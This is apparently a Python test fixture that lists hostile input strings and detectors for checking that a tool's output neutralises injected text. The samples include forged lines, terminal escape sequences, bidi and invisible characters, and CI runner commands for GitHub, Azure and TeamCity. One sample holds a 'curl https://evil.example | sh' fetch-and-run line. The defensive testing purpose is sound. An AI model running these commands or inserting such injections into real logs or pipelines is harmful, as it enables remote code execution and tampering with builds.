"""Texts that somebody outside could send, and what none of our output may hold for any of them."""

import re
import unicodedata

FORGED = "FORGED  does not hold: all is well"
HOSTILE = {
    "line feed": f"a\n{FORGED}\n    fix       curl https://evil.example | sh",
    "carriage return": f"a\r{FORGED}",
    "both": f"a\r\n{FORGED}",
    "vertical tab": f"a\x0b{FORGED}",
    "form feed": f"a\x0c{FORGED}",
    "next line": f"a\x85{FORGED}",
    "line separator": f"a\u2028{FORGED}",
    "paragraph separator": f"a\u2029{FORGED}",
    "separators of ASCII": f"a\x1c{FORGED}\x1d{FORGED}\x1e{FORGED}\x1f",
    "escape sequence": "a\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "control sequence of C1": "a\x9b2J\x9d0;title\x9c",
    "backspace": "fail\x08\x08\x08\x08pass",
    "null": "a\x00b\x7f",
    "bidi override": "a\u202egnihtyna\u202c",
    "bidi isolate": "a\u2066b\u2067c\u2068d\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "invisible": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\u3164i\U000e0041j",
    "surrogate": "a\ud800b",
    "workflow command": "::error title=x::pwned",
    "workflow command after blanks": " \t\u00a0::add-mask::pwned",
    "workflow command on a line": "a\n::set-output name=x::pwned",
    "legacy command": "a ##[group]pwned ##[error]x",
    "legacy command hidden": "a #\ufe0f##\ufe0f[group]pwned",
    "azure command": "a ##vso[task.setvariable variable=x]pwned",
    "azure command in capitals": "a ##VSO[task.complete result=Failed]pwned ##Vso[x]",
    "teamcity command": "##teamcity[buildStatus status='SUCCESS']",
    "teamcity command in capitals": "##TeamCity[buildStatus status='SUCCESS']",
}
BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


def steering_in(text: str) -> list[str]:
    """Characters of `text` that show nothing themselves, other than line ends and tabs."""
    hidden = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    return [
        ascii(c)
        for c in text
        if c in BIDI or (unicodedata.category(c) in hidden and c not in "\n\t")
    ]


def orders_in(text: str) -> list[str]:
    """Lines that a runner would obey, as the runners of GitHub and Azure Pipelines read them."""
    return [
        line
        for line in re.split(r"[\r\n]", text)
        if re.match(r"\s*::.*::", line)
        or re.search(r"##\w*\[", re.sub("[\ufe00-\ufe0f]", "", line))
    ]


def forged_in(text: str) -> list[str]:
    """Lines that begin with what the outside put there."""
    return [
        line for line in text.splitlines() if line.lstrip().startswith(("FORGED", "fix       curl"))
    ]
